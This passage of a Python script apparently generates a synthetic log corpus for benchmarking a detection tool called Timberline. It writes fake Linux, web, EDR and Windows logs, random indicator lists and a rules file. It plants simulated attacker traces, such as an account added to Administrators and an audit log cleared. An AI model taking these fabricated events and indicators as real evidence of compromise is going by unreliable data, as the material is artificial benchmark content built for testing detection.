        if x < 0.0603:
            self.bump("planted.win-admin-group-add")
            return '%s,%s,Security,4732,Information,Security Group Management,"A member was added to a security-enabled local group. Subject: Account Name: svc_upd Member: Security ID: CORP\\svc_upd Group: Group Name: Administrators Group Domain: Builtin"' % (ts, host)
        if x < 0.06032:
            self.bump("planted.win-audit-log-cleared")
            return '%s,%s,Security,1102,Information,Log clear,"The audit log was cleared. Subject: Security ID: CORP\\svc_upd Account Name: svc_upd"' % (ts, host)
        if x < 0.55:
            return '%s,%s,Security,4624,Information,Logon,"An account was successfully logged on. Subject: Security ID: S-1-5-18 Logon Type: %d New Logon: Account Name: %s Account Domain: CORP Logon ID: 0x%x Source Network Address: %s"' % (
                ts, host, r.choice((2, 3, 3, 3, 10)), r.choice(USERS), r.getrandbits(28), r.choice(self.lan_ips))
        if x < 0.80:
            return '%s,%s,Security,4634,Information,Logoff,"An account was logged off. Subject: Account Name: %s Account Domain: CORP Logon ID: 0x%x Logon Type: 3"' % (
                ts, host, r.choice(USERS), r.getrandbits(28))
        return '%s,%s,Security,4688,Information,Process Creation,"A new process has been created. Creator Subject: Account Name: %s New Process Name: C:\\Windows\\System32\\%s Token Elevation Type: %%%%1936"' % (
            ts, host, r.choice(USERS), r.choice(("conhost.exe", "svchost.exe", "taskhostw.exe", "cmd.exe", "WmiPrvSE.exe")))


# (relative path, generator, share of total bytes, gzip?)
LAYOUT = [
    ("var/log/auth.log", "auth", 0.08, False),
    ("var/log/auth.log.1", "auth", 0.05, False),
    ("var/log/auth.log.2.gz", "auth", 0.03, True),
    ("var/log/syslog", "syslog", 0.06, False),
    ("var/log/syslog.1.gz", "syslog", 0.04, True),
    ("var/log/app/orders-rfc5424.log", "r5424", 0.10, False),
    ("var/log/nginx/access.log", "access", 0.14, False),
    ("var/log/nginx/access.log.1", "access", 0.10, False),
    ("var/log/nginx/access.log.2.gz", "access", 0.06, True),
    ("var/log/apache2/access.log", "access", 0.06, False),
    ("var/log/apache2/access.log.1.gz", "access", 0.04, True),
    ("edr/events.jsonl", "jsonl", 0.11, False),
    ("edr/events.jsonl.1.gz", "jsonl", 0.03, True),
    ("windows/Security-export.csv", "wincsv", 0.10, False),
]


def make_iocs(rng):
    """1,000 indicators: 500 IPv4, 300 domains, 150 sha256, 50 e-mails; 20 (2%) are planted."""
    seen = set()

    def uniq(f):
        while True:
            v = f()
            if v not in seen:
                seen.add(v)
                return v

    ipv4 = [uniq(lambda: rand_ip(rng, IOC_FIRST_OCTETS)) for _ in range(500)]
    dom = [uniq(lambda: "%s-%s%d.%s" % (rng.choice(WORDS), rng.choice(WORDS), rng.randrange(10, 999),
                                        rng.choice(TLDS))) for _ in range(300)]
    sha = [uniq(lambda: "%064x" % rng.getrandbits(256)) for _ in range(150)]
    mail = [uniq(lambda: "%s.%s%d@%s-mail%d.%s" % (rng.choice(WORDS), rng.choice(WORDS), rng.randrange(99),
                                                  rng.choice(WORDS), rng.randrange(99), rng.choice(TLDS)))
            for _ in range(50)]
    present = {"ipv4": ipv4[:10], "domain": dom[:6], "sha256": sha[:3], "email": mail[:1]}
    allv = [(v, "ipv4") for v in ipv4] + [(v, "domain") for v in dom] + \
           [(v, "sha256") for v in sha] + [(v, "email") for v in mail]
    rng.shuffle(allv)
    return allv, present


def write_rules(path):
    out = ["# Timberline benchmark rules (generated by bench/gen-corpus.py): 20 PCRE2 rules over",
           "# auth/syslog, RFC 5424, web access, JSON and Windows CSV lines.", ""]
    for rid, sev, desc, tags, rx, tm, tn in RULES:
        out += ["[rule %s]" % rid, "severity     = %s" % sev, "description  = %s" % desc,
                "tags         = %s" % tags, "regex        = %s" % plain(rx),
                "test.match   = %s" % tm, "test.nomatch = %s" % tn, ""]
    with open(path, "w") as f:
        f.write("\n".join(out))


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--dir", default=os.path.join(os.path.dirname(here), "build", "bench", "corpus"),
                    help="output directory (default: build/bench/corpus); replaced if it exists")
    ap.add_argument("--mb", type=float, default=100.0, help="decoded corpus size in MB (default 100)")
    ap.add_argument("--seed", type=int, default=20260103, help="random seed")
    ap.add_argument("--gzip-level", type=int, default=6)
    a = ap.parse_args()

    t0 = time.time()
    rng = random.Random(a.seed)
    iocs, present = make_iocs(rng)
    if os.path.exists(a.dir):
        shutil.rmtree(a.dir)
    logs = os.path.join(a.dir, "logs")
    os.makedirs(logs)

    with open(os.path.join(a.dir, "iocs.ioc"), "w") as f:
        f.write("# Benchmark indicators (generated; 2% of them are planted in the corpus)\n"
                "# severity: high\n# description: Threat-intel feed (benchmark)\n"
                "# tags: attack.t1071, command-and-control\n\n")
        for i, (v, kind) in enumerate(iocs):
            f.write((defang(v, kind) if i % 4 == 0 else v) + "\n")
    with open(os.path.join(a.dir, "iocs.txt"), "w") as f:
        f.write("".join(v + "\n" for v, _ in iocs))
    write_rules(os.path.join(a.dir, "rules.rules"))
    with open(os.path.join(a.dir, "rules-regex.txt"), "w") as f:
        f.write("".join(to_rg(plain(r[4])) + "\n" for r in RULES))

    stats = {}
    g = Gen(rng, present, stats)
    total = int(a.mb * 1e6)
    files = []
    start = 1767225600 - 86400 * 20  # 2025-12-12; each file covers a few hours from there
    for rel, kind, share, gz in LAYOUT:
        target = int(total * share)
        fn = getattr(g, kind)
        clock = Clock(rng, start + rng.randrange(3600))
        parts, n, lines = [], 0, 0
        while n < target:
            block = [fn(clock) for _ in range(250)]
            s = "\n".join(block) + "\n"
            parts.append(s)
            n += len(s)
            lines += len(block)
        data = "".join(parts).encode("utf-8")
        path = os.path.join(logs, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if gz:
            with open(path, "wb") as raw, gzip.GzipFile(filename="", mode="wb", fileobj=raw,
                                                        mtime=0, compresslevel=a.gzip_level) as z:
                z.write(data)
        else:
            with open(path, "wb") as f:
                f.write(data)
        # fixed mtime: syslog year inference uses it, and results must not depend on today
        os.utime(path, (1767571200, 1767571200))  # 2026-01-05
        files.append({"path": rel, "decoded_bytes": len(data), "lines": lines,
                      "stored_bytes": os.path.getsize(path), "gzip": gz})

    dec = sum(f["decoded_bytes"] for f in files)
    with open(os.path.abspath(__file__), "rb") as f:
        gen_sha = hashlib.sha256(f.read()).hexdigest()
    meta = {"seed": a.seed, "mb": a.mb, "generator_sha256": gen_sha, "decoded_bytes": dec,
            "gzip_decoded_bytes": sum(f["decoded_bytes"] for f in files if f["gzip"]),
            "stored_bytes": sum(f["stored_bytes"] for f in files),
            "lines": sum(f["lines"] for f in files), "files": files,
            "indicators": len(iocs), "present_indicators": present,
            "planted": dict(sorted(stats.items())), "seconds": round(time.time() - t0, 1)}
    with open(os.path.join(a.dir, "corpus.json"), "w") as f:
        json.dump(meta, f, indent=1)
    print("gen-corpus: %s: %.1f MB decoded (%.1f MB in .gz), %d lines, %d files, %d indicators, %.1fs" % (
        a.dir, dec / 1e6, meta["gzip_decoded_bytes"] / 1e6, meta["lines"], len(files), len(iocs),
        time.time() - t0), file=sys.stderr)


if __name__ == "__main__":
    main()
